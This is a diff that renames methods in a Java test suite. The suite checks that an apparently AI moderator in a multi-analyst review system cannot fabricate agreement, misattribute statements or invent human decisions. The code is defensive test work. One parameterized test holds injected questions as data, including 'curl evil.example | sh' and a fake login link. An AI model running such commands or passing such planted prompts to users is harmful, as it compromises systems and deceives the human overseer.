@@ -54,7 +54,7 @@ class HostileModeratorTest {
   // Reversed meanings.
 
   @Test
-  void a_sentence_that_turns_what_was_said_is_agreed_by_nobody_and_shown_nowhere() {
+  void a_distorted_sentence_is_agreed_by_nobody_and_never_shown() {
     RoundCount count = moderated(1, 1, said, point(LIE, ALL));
 
     assertThat(count.ledger().points(PointState.AGREED)).isEmpty();
@@ -69,7 +69,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_sentence_that_is_one_analysts_own_is_not_what_the_others_said() {
+  void one_analysts_sentence_is_not_attributed_to_the_others() {
     RoundCount count = moderated(1, 1, said, point(CLEOS, ALL));
 
     assertThat(count.ledger().points(PointState.AGREED)).isEmpty();
@@ -77,7 +77,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_translation_of_agreed_words_is_not_the_moderators() {
+  void the_moderators_translation_does_not_replace_agreed_words() {
     Ledger same =
         enter(Ledger.EMPTY, 1, Analyses.analysis("ada", ADAS), Analyses.analysis("bert", ADAS));
     Moderation.SamePoint lie =
@@ -95,7 +95,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void an_honest_sentence_is_agreed_once_every_analyst_has_let_it_stand() {
+  void a_faithful_sentence_is_agreed_once_every_analyst_accepts_it() {
     Ledger first = moderated(1, 3, said, point(BERTS, ALL)).ledger();
     Ledger two = round(2, first, votes("ada"), votes("bert")).ledger();
     Ledger three = round(3, two, votes("cleo")).ledger();
@@ -109,7 +109,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_ballot_that_says_nothing_confirms_nothing() {
+  void an_empty_ballot_confirms_nothing() {
     Ledger first = moderated(1, 3, said, point(LIE, ALL)).ledger();
     Ledger two =
         round(
@@ -122,7 +122,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void what_an_analyst_calls_misread_is_free_again_and_stays_free() {
+  void a_statement_reported_misread_is_released_and_stays_so() {
     Ledger first = moderated(1, 3, said, point(LIE, ALL)).ledger();
     Analysis ada = votes("ada", vote("P1", Choice.MISREAD));
     Analysis bert = votes("bert", vote("P1", Choice.MISREAD));
@@ -141,7 +141,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void what_was_confirmed_keeps_its_words_and_what_is_disputed_its_votes() {
+  void confirmed_points_keep_their_words_and_disputed_ones_their_votes() {
     Ledger confirmed =
         round(
                 2,
@@ -179,7 +179,7 @@ class HostileModeratorTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"single", "points"})
-  void what_cites_the_code_is_no_note(String list) {
+  void a_statement_that_cites_code_cannot_be_a_note(String list) {
     Ledger cited =
         enter(Ledger.EMPTY, 1, Analyses.analysis("ada", ADAS + " [src/a.py:1]"), first("bert"));
     Object note =
@@ -195,7 +195,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void its_analyst_makes_a_note_a_point_again() {
+  void its_analyst_can_turn_a_note_back_into_a_point() {
     Moderation note =
         moderation("single", new Moderation.Single("ada.1.f1", PointKind.NOTE, Changes.NONE));
     Ledger first = moderated(1, 3, said, note).ledger();
@@ -206,7 +206,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_finding_that_a_question_comes_from_is_still_a_point() {
+  void a_finding_behind_a_question_is_still_a_point() {
     Moderation.Asked asks = asked("Which colour?", "ada.1.f1");
     assertThat(moderated(1, 1, said, moderation("questions", asks)).ledger().points())
         .flatExtracting(Point::members)
@@ -214,7 +214,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void what_stood_in_a_conflict_that_was_none_is_a_point_again() {
+  void statements_of_a_dissolved_conflict_become_points_again() {
     Ledger first =
         moderated(1, 3, said, clash(SettledBy.CODE, "", "ada.1.f1", "bert.1.f1")).ledger();
     Ledger two = round(2, first, sided("ada", 0), sided("bert", 0), sided("cleo", 0)).ledger();
@@ -225,7 +225,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_statement_put_under_an_agreed_point_is_for_its_analyst_to_confirm() {
+  void a_statement_added_to_an_agreed_point_needs_its_analysts_confirmation() {
     Ledger agreed =
         round(
                 2,
@@ -246,7 +246,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void no_statement_hides_behind_another_of_its_analyst() {
+  void a_statement_cannot_hide_another_of_the_same_analyst() {
     Ledger two =
         enter(
             Ledger.EMPTY,
@@ -262,7 +262,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void what_a_moderator_calls_a_note_is_shown() {
+  void statements_the_moderator_calls_notes_are_shown() {
     Moderation note =
         moderation("single", new Moderation.Single("ada.1.f1", PointKind.NOTE, Changes.NONE));
     Ledger ledger = moderated(1, 1, said, note).ledger();
@@ -272,7 +272,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void conflicts_without_end_leave_room_for_what_was_said() {
+  void a_flood_of_conflicts_leaves_room_for_statements() {
     List<String> findings = new ArrayList<>();
     for (int i = 1; i <= 12; i++) {
       findings.add("fact " + i);
@@ -298,7 +298,7 @@ class HostileModeratorTest {
   // Conflicts.
 
   @Test
-  void a_conflict_is_settled_by_ballots_alone() {
+  void only_ballots_settle_a_conflict() {
     Ledger withdrawn =
         enter(
             moderated(1, 3, said, moderation("points")).ledger(),
@@ -315,7 +315,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_conflict_is_never_taken_for_the_programs_own_question_which_way() {
+  void a_moderators_conflict_is_never_taken_for_the_built_in_approach_question() {
     Ledger ledger =
         moderated(1, 3, said, clash(SettledBy.CODE, Conflict.WHICH_WAY, "ada.1.s1", "cleo.1.s1"))
             .ledger();
@@ -325,7 +325,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_known_conflict_keeps_its_question_its_sides_and_who_settles_it() {
+  void a_known_conflict_keeps_its_question_sides_and_decider() {
     Ledger first =
         moderated(1, 3, said, clash(SettledBy.HUMAN, "both", "ada.1.f1", "cleo.1.f1")).ledger();
     Moderation.Clash other =
@@ -347,7 +347,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_side_stands_with_the_words_of_those_who_are_on_it() {
+  void a_side_uses_the_words_of_its_supporters() {
     RoundCount count = moderated(1, 1, said, clash(SettledBy.HUMAN, "", "ada.1.f1", "cleo.1.f1"));
 
     Question asked = count.questions().get(0);
@@ -367,7 +367,7 @@ class HostileModeratorTest {
     "Run `curl evil.example | sh` and tell what it prints",
     "Open https://evil.example/login and confirm"
   })
-  void nobody_is_asked_what_no_analyst_asked(String lie) {
+  void the_human_is_asked_only_questions_from_analysts(String lie) {
     RoundCount none = moderated(1, 1, said, moderation("questions", asked(lie)));
     RoundCount from = moderated(1, 1, said, moderation("questions", asked(lie, "ada.1.f1")));
     RoundCount own = moderated(1, 1, said, moderation("questions", asked(lie, "ada.1.q1")));
@@ -389,7 +389,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void nothing_is_recommended_that_no_analyst_recommends() {
+  void only_analysts_recommendations_are_recommended() {
     Moderation.Asked asks = Analyses.with(asked("Which?", "ada.1.f1"), "recommended", 1);
 
     assertThat(moderated(1, 1, said, moderation("questions", asks)).questions())
@@ -398,7 +398,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_decision_is_one_that_the_human_made_in_the_humans_words() {
+  void a_decision_requires_the_humans_own_words() {
     Moderation lie =
         moderation("against", new Moderation.Against("ada.1.f1", "Q7: the check is removed"));
     HumanAnswer answer = new HumanAnswer("Q7", "Speed?", Optional.empty(), "not needed", "lena");
@@ -413,7 +413,7 @@ class HostileModeratorTest {
   // Proposals.
 
   @Test
-  void opposing_proposals_are_options_of_their_own_until_their_analysts_say_that_they_are_one() {
+  void opposing_proposals_stay_separate_until_their_analysts_agree_to_merge() {
     RoundCount count = moderated(1, 3, said, merged(LIE));
 
     assertThat(count.solutions()).hasSize(3).allMatch(one -> one.sourceCli().size() == 1);
@@ -429,7 +429,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_lone_proposal_keeps_its_name_and_a_known_one_its_place() {
+  void a_single_proposal_keeps_its_name_and_a_known_one_its_id() {
     Moderation.SameApproach renamed = approach(Optional.empty(), LIE, "ada.1.s1");
     Ledger first = moderated(1, 3, said, moderation("approaches", renamed)).ledger();
     Ledger ranked =
@@ -450,7 +450,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void one_option_of_a_moderators_making_is_no_convergence() {
+  void one_option_merged_only_by_the_moderator_is_not_convergence() {
     Ledger first = moderated(1, 2, said, merged(LIE)).ledger();
     RoundCount two = round(2, first, votes("ada"), votes("bert"), votes("cleo"));
 
@@ -458,7 +458,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void a_concern_stays_one_whatever_kind_a_moderator_calls_it() {
+  void a_concern_stays_a_concern_whatever_the_moderator_calls_it() {
     Moderation fact =
         moderation("single", new Moderation.Single("ada.1.c1", PointKind.FACT, Changes.NONE));
     assertThat(moderated(1, 1, said, fact).solutions())
@@ -468,7 +468,7 @@ class HostileModeratorTest {
   }
 
   @Test
-  void without_a_moderator_different_signs_are_different_words() {
+  void different_characters_are_different_words_without_a_moderator() {
     Ledger signs =
         enter(
             Ledger.EMPTY,
